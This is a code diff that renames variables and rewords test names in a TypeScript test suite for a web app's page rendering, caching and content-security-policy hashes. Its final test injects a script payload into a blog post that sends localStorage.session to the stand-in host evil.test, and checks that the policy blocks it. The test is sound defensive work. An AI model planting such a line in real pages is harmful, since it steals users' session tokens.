@@ -9,7 +9,7 @@ import type { PagesBuild } from './build.ts';
 import { scriptHashes } from './policy.ts';
 import { renderPage } from './render.ts';
 
-// What `npm test` built, with an API of our own: parts of a page are written once and repeated, and must not be old.
+// The build of `npm test` with a fake API: parts of a page are cached and reused, and must not be stale.
 const built = join(import.meta.dirname, '../../build/server/index.js');
 if (!existsSync(built)) throw new Error('The pages are not built: run `npm run build`.');
 
@@ -45,7 +45,7 @@ beforeAll(async () => {
   pages = await import(pathToFileURL(built).href);
 });
 
-/** The list of one product, as HTML. */
+/** Renders the list of one product as HTML. */
 async function list({
   settings = {},
   changed = {},
@@ -60,7 +60,7 @@ async function list({
     'GET /api/auth/products/cards': [{ ...product, ...changed }],
     'GET /api/auth/products/facets': facets,
   };
-  const { answer } = await renderPage(
+  const { response } = await renderPage(
     pages,
     { path: '/products', search: '', lang, key: '' },
     {
@@ -70,11 +70,11 @@ async function list({
       dev: false,
     },
   );
-  expect(answer.status).toBe(200);
-  return answer;
+  expect(response.status).toBe(200);
+  return response;
 }
 
-/** A post whose text is as given: as if the sanitiser had let it pass. */
+/** Creates a post with this text, as if it had passed the sanitizer. */
 async function article(content: string) {
   const post = {
     _id: '32t8mcm1hz97molv',
@@ -96,7 +96,7 @@ async function article(content: string) {
     'GET /api/blog/posts/{id}': post,
     'GET /api/blog/posts/{id}/related': [],
   };
-  const { answer } = await renderPage(
+  const { response } = await renderPage(
     pages,
     { path: '/blog-details/32t8mcm1hz97molv', search: '', lang: 'en', key: '' },
     {
@@ -106,11 +106,11 @@ async function article(content: string) {
       dev: false,
     },
   );
-  expect(answer.status).toBe(200);
-  return answer;
+  expect(response.status).toBe(200);
+  return response;
 }
 
-/** The code of the inline scripts that run, as a browser finds them in the page. */
+/** Returns the code of the inline scripts that a browser would run. */
 const inlineScripts = (html: string): string[] =>
   Array.from(
     html.matchAll(/<script(?![^>]*(?:\ssrc=|"application\/(?:ld\+)?json"))[^>]*>([\s\S]*?)<\/script>/g),
@@ -120,7 +120,7 @@ const inlineScripts = (html: string): string[] =>
 const htmlOf = async (given?: Parameters<typeof list>[0]) =>
   (await (await list(given)).body.plain()).toString();
 
-it('writes a page the second time as the first, in both languages', async () => {
+it('renders a page the second time like the first, in both languages', async () => {
   for (const lang of ['en', 'hi'] as const) {
     const first = await htmlOf({ lang });
     expect(first).toMatch(/^<!DOCTYPE html><html lang="\w\w".*<\/body><\/html>$/s);
@@ -129,7 +129,7 @@ it('writes a page the second time as the first, in both languages', async () => 
   }
 });
 
-it('shows what changed since the parts of the page were written', async () => {
+it('shows changes since the parts of the page were cached', async () => {
   await htmlOf();
   const next = await htmlOf({
     settings: {
@@ -147,13 +147,13 @@ it('shows what changed since the parts of the page were written', async () => {
     expect(next).not.toContain(words);
 });
 
-it('tells the head of the first pictures', async () => {
+it('preloads the first pictures in the head', async () => {
   expect(await htmlOf()).toMatch(
     /<link rel="preload" as="image" href="\/media\/a\.svg" fetchPriority="high"\/>/,
   );
 });
 
-it('names every script of the page in its policy', async () => {
+it('lists every script of the page in its CSP', async () => {
   const { headers, body } = await list();
   const html = (await body.plain()).toString();
   const hashes = scriptHashes(inlineScripts(html));
@@ -162,9 +162,9 @@ it('names every script of the page in its policy', async () => {
   expect(html).not.toContain('nonce');
 });
 
-it('lets nobody keep the page of a shared report', async () => {
+it('sends the page of a shared report with no-store', async () => {
   const gone = () => Promise.reject(Object.assign(new Error('gone'), { status: 404 }));
-  const { answer, keep } = await renderPage(
+  const { response, cacheable } = await renderPage(
     pages,
     { path: '/shared-report/a-secret', search: '', lang: 'en', key: '' },
     {
@@ -175,12 +175,12 @@ it('lets nobody keep the page of a shared report', async () => {
       dev: false,
     },
   );
-  expect(answer.status).toBe(404);
-  expect(keep).toBe(false);
-  expect(answer.headers['cache-control']).toBe('no-store');
+  expect(response.status).toBe(404);
+  expect(cacheable).toBe(false);
+  expect(response.headers['cache-control']).toBe('no-store');
 });
 
-it('does not bless a script that reaches the page through a text', async () => {
+it('does not allow a script that reaches the page through a text', async () => {
   const stolen = 'fetch("//evil.test/"+localStorage.session)';
   const { headers, body } = await article(`<p>Words</p><script>${stolen}</script>`);
   const html = (await body.plain()).toString();
